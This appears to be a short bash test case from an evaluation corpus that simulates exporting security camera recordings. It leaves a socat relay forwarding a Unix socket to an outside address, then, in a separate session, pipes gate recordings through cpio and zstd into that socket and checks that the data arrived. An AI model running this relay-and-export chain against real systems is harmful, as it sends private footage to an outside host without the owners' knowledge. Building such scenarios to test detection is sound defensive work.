#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=recording-export half=report tool=cpio,zstd,socat far=out ready=out:9103 seconds=36 parts=dns,camera-gate,recorder-gate,nas,outside-web
# A socat that was left behind takes what comes to a Unix socket to a place outside; later somebody, in another session, gives it recordings by cpio and zstd.
if [ "$1" = out ]; then exec timeout 60 socat -u TCP-LISTEN:9103,bind=203.0.113.66,reuseaddr "CREATE:$LAB/got"; fi
setsid timeout 40 socat -u "UNIX-LISTEN:$LAB/log.sock" TCP:203.0.113.66:9103 &
sleep 16; cd "$LAB/recordings/gate" || exit 1
setsid sh -c "ls 00[0-4].mp4 | cpio -o --quiet | zstd -q -c | socat -u - UNIX-CONNECT:$LAB/log.sock"
sleep 8; [ "$(stat -c %s "$LAB/got")" -gt 400000 ]
